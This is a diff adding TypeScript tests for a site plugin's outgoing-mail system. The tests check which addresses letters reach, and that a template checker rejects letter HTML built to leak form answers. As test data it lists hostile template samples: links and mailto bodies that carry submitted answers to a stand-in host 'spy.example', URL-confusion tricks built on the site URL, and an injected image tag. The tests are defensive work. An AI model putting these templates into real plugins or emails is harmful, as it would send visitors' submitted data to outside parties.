@@ -9,6 +9,8 @@ import {
   MAIL_PLUGIN_WAITING_MAX,
 } from "../../../manifests/bounds/forms.ts";
 import { checkTemplate } from "../../../manifests/templates/templateCheck.ts";
+import type { ActivePlugin } from "../../../runtime/contributions/installed.ts";
+import { permissionFor } from "../../../runtime/plugins/letters/declaredLetters.ts";
 import { settingAddresses } from "../../../runtime/plugins/letters/settingAddresses.ts";
 import { SITE } from "../../runtime/kernel/world.ts";
 import { type LetterWorld, letterWorld, lettersPlugin } from "../../runtime/mail/letterWorld.ts";
@@ -74,6 +76,29 @@ describe("visitors' data", () => {
     expect(JSON.stringify([mail.got[0]?.text, mail.got[0]?.html])).not.toContain("vela");
   });
 
+  test("reaches a member's letter only as far as an owner granted it", async () => {
+    const told = lettersPlugin(ACME, [letter("members", { on: "form" })], { mail: { to: ["members"] } }, ANSWERS);
+    const mail = await letterWorld([told]);
+    mail.address(OWNER);
+    mail.post({ email: "vela@tide.example", message: "Ahoy" }, ["email"]);
+    await mail.ring();
+    const sent = mail.got.find(({ subject }) => subject === "News");
+    expect(sent).toMatchObject({ to: "m1@harbour.example", replyTo: "vela@tide.example" });
+    expect(sent?.text).toContain("Ahoy");
+    expect(JSON.stringify([sent?.text, sent?.html])).not.toContain("vela");
+  });
+
+  test("reaches no address that the author wrote as a default", async () => {
+    const preset = onForm("addresses", ANSWERS);
+    const properties = { people: { type: "array", items: { type: "string" }, default: ["author@tide.example"] } };
+    const settings = { type: "object", properties, additionalProperties: false };
+    Object.assign(preset.manifest.contributes, { settings });
+    const mail = await letterWorld([preset]);
+    mail.post({ message: "Ahoy" });
+    await mail.ring();
+    expect(mail.got).toEqual([]);
+  });
+
   test("never reaches an address that a visitor wrote", async () => {
     const mail = await letterWorld([onForm("submitter", ANSWERS)]);
     mail.post({ email: "victim@tide.example", message: "Buy pills" });
@@ -92,6 +117,16 @@ describe("visitors' data", () => {
     say(mail, "vela@tide.example");
     await mail.ring();
     expect(mail.got).toEqual([]);
+  });
+
+  test("is not told to them by a plugin with a route for visitors", async () => {
+    const booking = lettersPlugin(ACME, [letter("members")], { mail: { to: ["members"] } });
+    const routes = [{ name: "book", path: "/book", methods: ["POST"], access: "public" }];
+    const manifest = { ...booking.manifest, contributes: { ...booking.manifest.contributes, routes } };
+    const grant = { capabilities: booking.manifest.capabilities };
+    const active = (one: unknown) => ({ plugin: { manifest: one }, grant }) as unknown as ActivePlugin;
+    expect(permissionFor(active(manifest))).toBe("forms.read");
+    expect(permissionFor(active(booking.manifest))).toBe("site.read");
   });
 });
 
@@ -253,9 +288,46 @@ test.each([
   '<p class="a">a</p>',
   '<link rel="stylesheet" href="https://spy.example">',
   "<video></video>",
+  "{{ submission.answers[0].lines[0] | markdown }}",
+  "{{ submission.answers[0].lines[0] | markdown_inline | upcase }}",
+  "{% assign shown = submission.title | image %}{{ shown }}",
+  "{{ settings.people | player }}",
+  '{{ "a" | icon }}',
 ])("the HTML of a letter loads and runs nothing: %s", (text) =>
   expect(checkTemplate({ text, pointer: "/html" }, "letter")).not.toEqual([]),
 );
+
+const ANSWER = "{{ submission.answers[0].lines[0] }}";
+test.each([
+  `<a href="https://spy.example/?q=${ANSWER}">a</a>`,
+  `<a href="//spy.example/${ANSWER}">a</a>`,
+  `<a href="mailto:spy@tide.example?body=${ANSWER}">a</a>`,
+  `<a href="{{ site.url }}${ANSWER}">a</a>`,
+  `<a href="{{ site.url }}@spy.example/${ANSWER}">a</a>`,
+  `<a href="{{ site.url }}.spy.example/?q=${ANSWER}">a</a>`,
+  `<a href="{% if data %}{{ site.url }}{% else %}https://spy.example{% endif %}/${ANSWER}">a</a>`,
+])("a link of a letter takes no answer elsewhere: %s", (text) =>
+  expect(checkTemplate({ text, pointer: "/html" }, "letter")).not.toEqual([]),
+);
+
+test("a link that a value begins leads to the site, and an answer is text", async () => {
+  const html = `{% assign away = "https://spy.example/" | append: submission.title %}<a href="{{ away | link }}">a</a>
+<a href="{{ site.url }}/find?q={{ submission.title }}">b</a>${ANSWER}`;
+  const told = lettersPlugin(
+    ACME,
+    [letter("members", { on: "form", html: "a.html.liquid" })],
+    { mail: { to: ["members"] } },
+    { "a.html.liquid": html },
+  );
+  const mail = await letterWorld([told]);
+  mail.address(OWNER);
+  mail.post({ message: '<img src="https://spy.example">' });
+  await mail.ring();
+  const sent = mail.got.find(({ subject }) => subject.startsWith("About"))?.html ?? "";
+  expect(sent).toContain('<a href="#">a</a>');
+  expect(sent).toContain('<a href="https://acme.example/find?q=Contact">b</a>&lt;img');
+  expect(sent).not.toContain("<img");
+});
 
 test("the HTML of a letter may have words, lists, tables and links", () =>
   expect(
